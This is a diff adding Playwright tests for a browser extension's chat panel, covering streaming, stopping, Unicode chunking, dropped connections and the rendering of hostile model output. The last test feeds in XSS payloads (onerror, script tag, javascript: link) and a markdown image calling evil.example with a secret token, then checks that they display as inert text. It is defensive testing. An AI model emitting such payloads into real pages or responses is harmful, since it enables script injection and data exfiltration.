@@ -1,0 +1,135 @@
+import { expect, test } from './fixtures';
+import { ask, lastAnswer, openSignedInPanel } from './session';
+
+const REPLY =
+  'Light is fast. Grüße aus Köln, 你好世界, and a rocket 🚀 over the globe 🌍. The end.';
+
+test('an answer streams: partial text shows before the gateway sends the last chunk', async ({
+  extensionContext,
+  openExtensionPage,
+  gateway,
+}) => {
+  const panel = await openSignedInPanel(extensionContext, openExtensionPage);
+  gateway.control.setReply(REPLY);
+  gateway.control.setPace(60);
+  await ask(panel, 'How fast is light?');
+
+  const answer = lastAnswer(panel);
+  await expect(answer.locator('.markdown')).toContainText('Light is fast.');
+  const chat = gateway.control.requests().find((r) => r.path === '/oauth2/v1/chat/completions');
+  expect(chat?.finishedAt).toBeUndefined();
+
+  await expect(answer.locator('.markdown')).toHaveText(REPLY);
+  await expect(panel.getByRole('button', { name: 'Regenerate' })).toBeVisible();
+  const sent = chat?.body as {
+    model: string;
+    stream: boolean;
+    messages: Array<{ role: string }>;
+    max_tokens?: number;
+  };
+  expect(sent.stream).toBe(true);
+  expect(sent.max_tokens).toBeUndefined();
+  expect(sent.messages.at(-1)).toEqual({ role: 'user', content: 'How fast is light?' });
+});
+
+test('Stop keeps what arrived and the gateway sees the request aborted', async ({
+  extensionContext,
+  openExtensionPage,
+  gateway,
+}) => {
+  const panel = await openSignedInPanel(extensionContext, openExtensionPage);
+  gateway.control.setReply(REPLY.repeat(20));
+  gateway.control.setPace(40);
+  await ask(panel, 'Tell me a long story');
+  await expect(lastAnswer(panel).locator('.markdown')).toContainText('Light is fast.');
+
+  await panel.getByRole('button', { name: 'Stop' }).click();
+  await expect(lastAnswer(panel)).toContainText('Stopped.');
+  const partial = await lastAnswer(panel).locator('.markdown').innerText();
+  expect(partial.length).toBeGreaterThan(0);
+  expect(partial.length).toBeLessThan(REPLY.length * 20);
+  await expect
+    .poll(
+      () =>
+        gateway.control.requests().find((r) => r.path === '/oauth2/v1/chat/completions')?.aborted,
+    )
+    .toBe(true);
+});
+
+test('multi-byte characters split across network chunks arrive intact', async ({
+  extensionContext,
+  openExtensionPage,
+  gateway,
+}) => {
+  const panel = await openSignedInPanel(extensionContext, openExtensionPage);
+  const text = '🚀🌍👩‍🚀 你好世界 こんにちは Grüße ñandú Ωμέγα 🎉'.repeat(5);
+  gateway.control.setReply(text);
+  await ask(panel, 'Say hello in many scripts');
+  await expect(lastAnswer(panel).locator('.markdown')).toHaveText(text);
+});
+
+test('a dropped connection keeps the partial answer, says so, and Retry completes it', async ({
+  extensionContext,
+  openExtensionPage,
+  gateway,
+}) => {
+  const panel = await openSignedInPanel(extensionContext, openExtensionPage);
+  gateway.control.setReply(REPLY);
+  gateway.control.injectFault({
+    kind: 'drop-after-chunks',
+    chunks: 4,
+    path: '/oauth2/v1/chat/completions',
+  });
+  await ask(panel, 'Explain light');
+
+  const answer = lastAnswer(panel);
+  await expect(answer.getByRole('alert')).toContainText(
+    'The connection was lost in the middle of the answer',
+  );
+  const partial = await answer.locator('.markdown').innerText();
+  expect(partial.length).toBeGreaterThan(0);
+  expect(REPLY.startsWith(partial.trim())).toBe(true);
+
+  await answer.getByRole('button', { name: 'Retry' }).click();
+  await expect(answer.locator('.markdown')).toHaveText(REPLY);
+  await expect(answer.getByRole('alert')).toHaveCount(0);
+});
+
+test('hostile model output is shown as text: nothing runs, nothing loads', async ({
+  extensionContext,
+  openExtensionPage,
+  gateway,
+}) => {
+  const panel = await openSignedInPanel(extensionContext, openExtensionPage);
+  const requested: string[] = [];
+  extensionContext.on('request', (request) => requested.push(request.url()));
+  let dialogs = 0;
+  panel.on('dialog', (dialog) => {
+    dialogs++;
+    void dialog.dismiss();
+  });
+  gateway.control.setReply(
+    [
+      'Here: <img src=x onerror="alert(1)"> and <script>alert(2)</script>',
+      '',
+      '[click me](javascript:alert(3))',
+      '',
+      '![leak](https://evil.example/pixel.png?secret=token)',
+    ].join('\n'),
+  );
+  await ask(panel, 'Show me something');
+
+  const markdown = lastAnswer(panel).locator('.markdown');
+  await expect(markdown).toContainText('<img src=x onerror="alert(1)">');
+  await expect(markdown).toContainText('<script>alert(2)</script>');
+  await expect(markdown).toContainText('[click me](javascript:alert(3))');
+  await expect(markdown).toContainText('[image: leak]');
+  await expect(markdown.locator('img, script')).toHaveCount(0);
+  await expect(markdown.locator('a[href^="javascript:"]')).toHaveCount(0);
+  await expect(
+    markdown.locator('a[href="https://evil.example/pixel.png?secret=token"]'),
+  ).toHaveAttribute('rel', 'noopener noreferrer');
+  await panel.waitForTimeout(300); // let any stray load or script run, so its absence means something
+  expect(dialogs).toBe(0);
+  expect(requested.filter((url) => url.includes('evil.example'))).toEqual([]);
+});
